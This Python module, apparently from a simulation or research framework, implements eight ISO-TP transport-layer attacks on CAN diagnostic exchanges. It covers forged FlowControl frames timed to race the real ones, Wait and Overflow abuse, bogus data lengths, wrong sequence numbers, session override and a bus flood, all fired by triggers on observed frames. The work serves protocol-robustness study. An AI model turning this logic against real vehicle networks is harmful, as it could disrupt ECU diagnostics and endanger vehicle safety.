"""Transport-layer attacks A1-A8 as trigger-driven injectors.

An ``Attacker`` sits on the bus as an ordinary node. It watches every
delivered frame, and when its trigger matches it hands back frames to submit
(or a flood to schedule). It never breaks bus rules; every injected frame is
a well-formed CAN frame in the diagnostic identifier range, only its
transport-level meaning is hostile.

Triggers re-arm on every first frame seen on the target identifier, so each
retry of a diagnostic exchange is attacked again.
"""
from __future__ import annotations

import enum
import random
from dataclasses import dataclass, field
from typing import List, Optional, Tuple, Union

from .codec import (
    ConsecutiveFrame,
    FirstFrame,
    FlowControl,
    FlowStatus,
    RawCanFrame,
    SingleFrame,
    decode_tp_frame,
    encode_tp_frame,
)
from .diag import ECU_RESPONSE_ID, TOOL_REQUEST_ID


class AttackId(str, enum.Enum):
    A1 = "A1"
    A2 = "A2"
    A3 = "A3"
    A4 = "A4"
    A5 = "A5"
    A6 = "A6"
    A7 = "A7"
    A8 = "A8"

    def __str__(self) -> str:
        return self.value


ATTACK_IDS = tuple(a.value for a in AttackId)


@dataclass(frozen=True)
class Mechanism:
    """Frame types involved and the protocol mechanism each attack abuses."""

    name: str
    frame_types: Tuple[str, ...]
    transmission: bool
    error_handling: bool
    clauses: Tuple[str, ...]


MECHANISMS = {
    AttackId.A1: Mechanism("Preceding FlowControl", ("FC",), True, False, ("9.6.5.6",)),
    AttackId.A2: Mechanism("FlowStatus Wait", ("FC",), False, True, ("9.6.5.1", "9.8.4")),
    AttackId.A3: Mechanism("FlowStatus Overflow", ("FC",), True, False, ("9.6.5.1",)),
    AttackId.A4: Mechanism("DataLength", ("FF",), False, True, ("9.6.3.2",)),
    AttackId.A5: Mechanism("SequenceNumber", ("CF",), False, True, ("9.6.4.4",)),
    AttackId.A6: Mechanism("Session Override", ("SF", "FF"), True, False, ("9.8.3",)),
    AttackId.A7: Mechanism("Reserved Value", ("FC",), False, True, ("9.6.5.2",)),
    AttackId.A8: Mechanism("Timeout", (), True, True, ("9.8.2",)),
}


class TriggerNeverFired(RuntimeError):
    pass


@dataclass(frozen=True)
class OnFirstFrameObserved:
    target_id: int = ECU_RESPONSE_ID


@dataclass(frozen=True)
class OnConsecutiveFrameObserved:
    target_id: int = ECU_RESPONSE_ID
    nth: int = 1  # counted from the most recent FF on target_id


@dataclass(frozen=True)
class OnExchangeStart:
    pass


@dataclass(frozen=True)
class AtTime:
    timestamp: int


TriggerCondition = Union[OnFirstFrameObserved, OnConsecutiveFrameObserved, OnExchangeStart, AtTime]


def _check_diag_id(can_id: int) -> None:
    if not 0x700 <= can_id <= 0x7FF:
        raise ValueError(f"target id 0x{can_id:X} outside the diagnostic range 0x700-0x7FF")


@dataclass(frozen=True)
class AttackSpec:
    id: AttackId
    trigger: TriggerCondition
    fc_bs: int = 1  # A1
    fc_stmin: int = 0  # A1
    wait_count: int = 3  # A2, normally the victim's wft_max
    ff_dl_choice: str = "4095"  # A4: "4095" or "max32"
    injected_sn: Optional[int] = None  # A5, None: observed SN + 8
    frame_kind: str = "FF"  # A6: "FF" or "SF"
    payload: Optional[bytes] = None  # A6, None: replay what was observed
    reserved_nibble: int = 0x5  # A7
    flood_id: int = 0x000  # A8
    flood_count: int = 8000
    flood_spacing_us: int = 200
    race_offset_us: Optional[int] = None  # A1/A2/A7, None: one frame-time
    request_id: int = TOOL_REQUEST_ID
    response_id: int = ECU_RESPONSE_ID

    def __post_init__(self) -> None:
        object.__setattr__(self, "id", AttackId(self.id))
        for attr in ("target_id",):
            if hasattr(self.trigger, attr):
                _check_diag_id(getattr(self.trigger, attr))
        _check_diag_id(self.request_id)
        _check_diag_id(self.response_id)
        if not 0 <= self.fc_bs <= 0xFF or not 0 <= self.fc_stmin <= 0xFF:
            raise ValueError("fc_bs and fc_stmin must be bytes")
        if self.wait_count < 0:
            raise ValueError("wait_count must be >= 0")
        if self.ff_dl_choice not in ("4095", "max32"):
            raise ValueError("ff_dl_choice must be '4095' or 'max32'")
        if self.injected_sn is not None and not 0 <= self.injected_sn <= 0xF:
            raise ValueError("injected_sn must lie in 0..15")
        if self.frame_kind not in ("FF", "SF"):
            raise ValueError("frame_kind must be 'FF' or 'SF'")
        if not 0x3 <= self.reserved_nibble <= 0xF:
            raise ValueError("reserved_nibble must lie in 0x3..0xF")
        if not 0 <= self.flood_id <= 0x7FF or self.flood_count < 1 or self.flood_spacing_us < 0:
            raise ValueError("invalid flood parameters")

    @property
    def mechanism(self) -> Mechanism:
        return MECHANISMS[self.id]


_DEFAULT_TRIGGERS = {
    AttackId.A1: OnFirstFrameObserved(),
    AttackId.A2: OnFirstFrameObserved(),
    AttackId.A3: OnFirstFrameObserved(),
    AttackId.A4: OnConsecutiveFrameObserved(nth=2),
    AttackId.A5: OnConsecutiveFrameObserved(nth=1),
    AttackId.A6: OnConsecutiveFrameObserved(nth=2),
    AttackId.A7: OnFirstFrameObserved(),
    AttackId.A8: OnFirstFrameObserved(),
}


def default_spec(attack: Union[str, AttackId], **overrides) -> AttackSpec:
    aid = AttackId(str(attack).upper())
    kwargs = {"trigger": _DEFAULT_TRIGGERS[aid]}
    kwargs.update(overrides)
    return AttackSpec(aid, **kwargs)


def race_offset(spec: AttackSpec, frame_time_us: int) -> int:
    """Emission time relative to the predicted legitimate FC.

    Positive values land after it. The default is one frame-time, so the
    forged FC is the next frame the sender sees once the real FC has set
    the block running.
    """
    if spec.id not in (AttackId.A1, AttackId.A2, AttackId.A7):
        raise ValueError(f"race_offset only applies to A1, A2 and A7, not {spec.id}")
    return frame_time_us if spec.race_offset_us is None else spec.race_offset_us


@dataclass(frozen=True)
class Injection:
    frame: RawCanFrame
    emit_at: int


@dataclass(frozen=True)
class Flood:
    can_id: int
    count: int
    spacing_us: int
    start: int


Action = Union[Injection, Flood]


@dataclass
class Attacker:
    spec: AttackSpec
    node_id: int = 0
    frame_time_us: int = 256
    reaction_us: int = 50
    jitter_us: int = 50
    rng: random.Random = field(default_factory=lambda: random.Random(0))
    fired: int = 0
    injected_frames: int = 0
    _cfs_since_ff: int = 0
    _last_ff: Optional[Tuple[RawCanFrame, FirstFrame]] = None
    _time_fired: bool = False

    def _react(self, now: int) -> int:
        return now + self.reaction_us + self.rng.randint(0, self.jitter_us)

    def _fc(self, fc: FlowControl, at: int) -> Injection:
        return Injection(RawCanFrame(self.spec.request_id, encode_tp_frame(fc), at), at)

    def _matches(self, observed: RawCanFrame, decoded) -> bool:
        trig = self.spec.trigger
        if isinstance(trig, OnFirstFrameObserved):
            return observed.can_id == trig.target_id and isinstance(decoded, FirstFrame)
        if isinstance(trig, OnConsecutiveFrameObserved):
            return (
                observed.can_id == trig.target_id
                and isinstance(decoded, ConsecutiveFrame)
                and self._cfs_since_ff == trig.nth
            )
        if isinstance(trig, OnExchangeStart):
            return observed.can_id == self.spec.request_id and isinstance(decoded, (SingleFrame, FirstFrame))
        return False

    def on_bus_frame(self, observed: RawCanFrame, now: int) -> List[Action]:
        result = decode_tp_frame(observed.data)
        decoded = result.frame if result.ok else None
        if observed.can_id == self.spec.response_id:
            if isinstance(decoded, FirstFrame):
                self._cfs_since_ff = 0
                self._last_ff = (observed, decoded)
            elif isinstance(decoded, ConsecutiveFrame):
                self._cfs_since_ff += 1
        if decoded is None or not self._matches(observed, decoded):
            return []
        return self._fire(observed, decoded, now)

    def on_time(self, now: int) -> List[Action]:
        trig = self.spec.trigger
        if isinstance(trig, AtTime) and not self._time_fired and now >= trig.timestamp:
            self._time_fired = True
            return self._fire(None, None, now)
        return []

    def next_timer(self) -> Optional[int]:
        trig = self.spec.trigger
        if isinstance(trig, AtTime) and not self._time_fired:
            return trig.timestamp
        return None

    def _fire(self, observed: Optional[RawCanFrame], decoded, now: int) -> List[Action]:
        self.fired += 1
        s = self.spec
        aid = s.id
        actions: List[Action] = []
        if aid in (AttackId.A1, AttackId.A2, AttackId.A7):
            # The legitimate FC answers the FF at once; predict its delivery.
            fc_time = now + self.frame_time_us if isinstance(decoded, FirstFrame) else now
            at = max(now, fc_time + race_offset(s, self.frame_time_us)) + self.rng.randint(0, self.jitter_us)
            if aid is AttackId.A1:
                actions.append(self._fc(FlowControl(0, s.fc_bs, s.fc_stmin), at))
            elif aid is AttackId.A2:
                for _ in range(s.wait_count):
                    actions.append(self._fc(FlowControl(int(FlowStatus.WAIT)), at))
                actions.append(self._fc(FlowControl(int(FlowStatus.CONTINUE_TO_SEND)), at))
            else:
                actions.append(self._fc(FlowControl(s.reserved_nibble), at))
        elif aid is AttackId.A3:
            actions.append(self._fc(FlowControl(int(FlowStatus.OVERFLOW)), self._react(now)))
        elif aid is AttackId.A4:
            ff_dl = 4095 if s.ff_dl_choice == "4095" else 0xFFFFFFFF
            head = b"\x62\xF1\x90\x00\x00\x00"[: 2 if ff_dl > 0xFFF else 6]
            frame = FirstFrame(ff_dl, head)
            at = self._react(now)
            actions.append(Injection(RawCanFrame(s.response_id, encode_tp_frame(frame), at), at))
        elif aid is AttackId.A5:
            if s.injected_sn is not None:
                sn = s.injected_sn
            else:
                sn = (decoded.sn + 8) & 0xF if isinstance(decoded, ConsecutiveFrame) else 0xF
            at = self._react(now)
            cf = ConsecutiveFrame(sn, bytes(7))
            actions.append(Injection(RawCanFrame(s.response_id, encode_tp_frame(cf), at), at))
        elif aid is AttackId.A6:
            at = self._react(now)
            if s.frame_kind == "SF":
                data = s.payload if s.payload is not None else b"\x7F\x22\x78"
                frame = SingleFrame(data[:7])
            elif s.payload is not None:
                frame = FirstFrame(max(8, len(s.payload)), s.payload[:6])
            elif self._last_ff is not None:
                frame = self._last_ff[1]
            else:
                frame = FirstFrame(8, bytes(6))
            actions.append(Injection(RawCanFrame(s.response_id, encode_tp_frame(frame), at), at))
        elif aid is AttackId.A8:
            actions.append(Flood(s.flood_id, s.flood_count, s.flood_spacing_us, self._react(now)))
        self.injected_frames += sum(1 if isinstance(a, Injection) else a.count for a in actions)
        return actions

    def check_fired(self) -> None:
        if self.fired == 0:
            raise TriggerNeverFired(f"{self.spec.id} trigger never matched")
